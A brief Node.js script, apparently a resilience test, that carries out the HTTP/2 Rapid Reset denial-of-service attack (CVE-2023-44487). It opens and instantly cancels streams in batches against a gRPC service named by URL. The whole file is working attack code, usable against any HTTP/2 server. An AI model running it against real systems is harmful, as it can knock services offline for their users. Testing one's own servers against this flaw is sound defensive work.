// Opens streams and resets each at once (CVE-2023-44487): rapid_reset.mjs URL CA COUNT. Fails unless so
// many were sent, or the server hung up.
import { readFileSync } from 'node:fs'
import { connect, constants } from 'node:http2'

const [url, ca, count] = process.argv.slice(2)
const session = connect(url, { ca: readFileSync(ca) })
let sent = 0

session.on('error', () => end())
session.on('close', () => end())
session.on('connect', send)

// In batches, so that what is written leaves the process.
function send() {
  for (let i = 0; i < 500 && sent < Number(count); ++i) {
    if (session.destroyed) return
    const stream = session.request({
      ':method': 'POST',
      ':path': '/sekisho.v1.Queue/ListProposals',
      'content-type': 'application/grpc',
    })
    stream.on('error', () => {})
    stream.close(constants.NGHTTP2_CANCEL)
    sent += 1
  }
  if (sent < Number(count)) setImmediate(send)
  else session.close(end)
}

function end() {
  console.log(`${sent} streams`)
  process.exit(sent > 0 ? 0 : 1)
}
